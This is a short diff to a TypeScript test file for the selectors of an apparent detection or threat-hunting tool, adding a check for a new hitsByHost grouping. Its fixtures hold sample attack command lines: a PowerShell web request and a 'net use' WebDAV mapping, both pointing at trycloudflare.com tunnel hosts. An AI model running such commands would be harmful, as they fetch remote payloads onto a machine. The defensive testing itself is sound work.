@@ -8,6 +8,7 @@ import {
   hitId,
   hitRef,
   hitsOfHost,
+  hitsByHost,
   hitsSharingPattern,
   hostProgress,
   hostStateOf,
@@ -185,6 +186,7 @@ describe('selectors', () => {
       makeHit(3, { host: 'A', cmd: 'powershell.exe -c iwr https://x.trycloudflare.com/a' }),
     ];
     expect(hitsOfHost(hits, 'A').map((h) => h.source.row)).toEqual([1, 3]);
+    expect([...hitsByHost(hits)].map(([host, group]) => [host, group.map((h) => h.source.row)])[0]).toEqual(['A', [1, 3]]);
     const pattern = commandLinePattern('cmd.exe /c net use \\\\alpha-beta.trycloudflare.com@SSL\\x 12');
     expect(hitsSharingPattern(hits, pattern).map((h) => h.source.row)).toEqual([1, 2]);
   });
